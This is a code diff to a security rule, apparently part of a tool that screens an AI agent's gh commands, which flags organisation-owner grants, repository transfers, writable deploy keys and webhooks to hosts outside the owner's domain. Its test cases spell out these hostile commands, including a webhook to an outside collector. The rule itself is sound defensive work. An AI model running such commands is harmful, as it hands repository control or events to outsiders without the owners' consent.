@@ -4,6 +4,7 @@
  * or maintain rights, or making a private repository public. Tool calls (`github_update_branch_protection`,
  * `github_add_collaborator`) reach this rule as the `gh api` lines they stand for (tool-call/forge.ts).
  */
+import { classifyHost } from '../../net/address.js';
 import { defineRule } from '../define-rule.js';
 import { asksHelp, execHits } from '../command-line.js';
 
@@ -34,6 +35,23 @@ function fieldsOf(args: readonly string[]): Map<string, string> {
 
 const ELEVATED = /^(?:admin|maintain|owner|maintainer)$/;
 
+/**
+ * A webhook address the repository's owner runs: on this machine or a private network, or under
+ * the owner's own domain (`ci.acme.com` for `acme`), the team's CI (R9 twin-webhook-own).
+ */
+function ownHook(url: string | undefined, owner: string): boolean {
+  const host = url === undefined ? null : /^https?:\/\/([^/:?#]+)/i.exec(url)?.[1]?.toLowerCase();
+  if (host === undefined || host === null) return false;
+  const info = classifyHost(host);
+  if (info.class === 'loopback' || info.class === 'private') return true;
+  const labels = host.split('.');
+  // The registrable label: the one before the suffix (acme.com, acme.co.uk).
+  const second = labels.length >= 3 && /^(?:co|com|org|net|ac|gov)$/.test(labels[labels.length - 2]!);
+  const label = labels[labels.length - (second ? 3 : 2)];
+  const norm = (t: string): string => t.toLowerCase().replace(/[^a-z0-9]/g, '');
+  return label !== undefined && norm(label) === norm(owner) && norm(owner).length >= 3;
+}
+
 function weakens(words: readonly string[]): string | null {
   if (words[0] !== 'gh' || asksHelp(words.slice(1))) return null;
   const args = words.slice(1);
@@ -48,10 +66,14 @@ function weakens(words: readonly string[]): string | null {
       ? 'gh repo deploy-key add --allow-write gives a key push access to the repository'
       : null;
   if (args[0] !== 'api') return null;
-  const endpoint = args.slice(1).find((a) => /^\/?repos\//.test(a));
-  if (endpoint === undefined) return null;
   const m = method(args);
   const f = fieldsOf(args);
+  // An organisation owner (role admin) controls every repository, member and setting of it.
+  const member = args.slice(1).find((a) => /^\/?orgs\/[^/]+\/memberships\/[^/]+\/?$/.test(a));
+  if (member !== undefined && m === 'PUT' && f.get('role') === 'admin')
+    return `gh api PUT ${member} makes the account an owner of the organisation`;
+  const endpoint = args.slice(1).find((a) => /^\/?repos\//.test(a));
+  if (endpoint === undefined) return null;
   if (
     /\/branches\/[^/]+\/protection(?:\/(?:required_pull_request_reviews|required_status_checks|enforce_admins|required_signatures))?\/?$/.test(
       endpoint,
@@ -67,8 +89,12 @@ function weakens(words: readonly string[]): string | null {
   // Handing the repository to another owner, or every push and pull request to an outside URL (r6).
   if (/^\/?repos\/[^/]+\/[^/]+\/transfer\/?$/.test(endpoint) && m === 'POST')
     return `gh api POST ${endpoint} transfers the repository to ${f.get('new_owner') ?? 'another owner'}`;
-  if (/^\/?repos\/[^/]+\/[^/]+\/hooks\/?$/.test(endpoint) && m === 'POST')
-    return `gh api POST ${endpoint} sends the repository's events to a webhook`;
+  if (/^\/?repos\/[^/]+\/[^/]+\/hooks\/?$/.test(endpoint) && m === 'POST') {
+    const owner = /^\/?repos\/([^/]+)\//.exec(endpoint)![1]!;
+    return ownHook(f.get('config[url]') ?? f.get('url'), owner)
+      ? null
+      : `gh api POST ${endpoint} sends the repository's events to a webhook`;
+  }
   if (/^\/?repos\/[^/]+\/[^/]+\/?$/.test(endpoint) && m === 'PATCH') {
     if (f.get('private') === 'false' || f.get('visibility') === 'public')
       return `gh api PATCH ${endpoint} makes the repository public`;
@@ -83,7 +109,7 @@ export default defineRule({
   kinds: ['exec'],
   programs: ['gh'],
   summary:
-    'Removing branch protection, giving an account admin/maintain rights, adding a deploy key that can push, making a private repository public, transferring it or adding a webhook through gh.',
+    'Removing branch protection, giving an account admin/maintain rights or organisation ownership, adding a deploy key that can push, making a private repository public, transferring it or adding a webhook to a host outside the owner’s domain through gh.',
   remediationHint:
     "Access controls of a hosted repository are the owners' decision. Open a pull request or ask a maintainer instead of changing protection, collaborators or visibility.",
   *check(facts) {
@@ -102,6 +128,7 @@ export default defineRule({
       { input: 'gh api -X POST repos/acme/prod/transfer -f new_owner=someone-else' },
       { input: 'gh api -X POST repos/acme/prod/hooks -f config[url]=https://collect.example.org/h' },
       { input: 'gh repo deploy-key add ci.pub --allow-write -R acme/infra' },
+      { input: 'gh api -X PUT orgs/acme/memberships/outsider-x -f role=admin' },
       {
         input:
           'gh api -X POST repos/acme/infra/keys -f title=ci -f key="ssh-ed25519 AAAA x" -F read_only=false',
@@ -110,6 +137,11 @@ export default defineRule({
     allow: [
       { input: 'gh api repos/acme/prod/branches/main/protection', why: 'reads the protection' },
       { input: 'gh api -X PUT repos/acme/prod/collaborators/bob -f permission=pull', why: 'read access' },
+      { input: 'gh api -X PUT orgs/acme/memberships/bob -f role=member', why: 'an ordinary member' },
+      {
+        input: 'gh api -X POST repos/acme/web/hooks -f config[url]=https://ci.acme.com/github/webhook',
+        why: 'a webhook to the owner’s own CI',
+      },
       { input: 'gh repo edit acme/prod --description "Service"', why: 'a description' },
       { input: 'gh api -X PATCH repos/acme/prod -f description=Service', why: 'a description' },
       { input: 'gh repo deploy-key add ci.pub -R acme/infra', why: 'a read-only deploy key' },
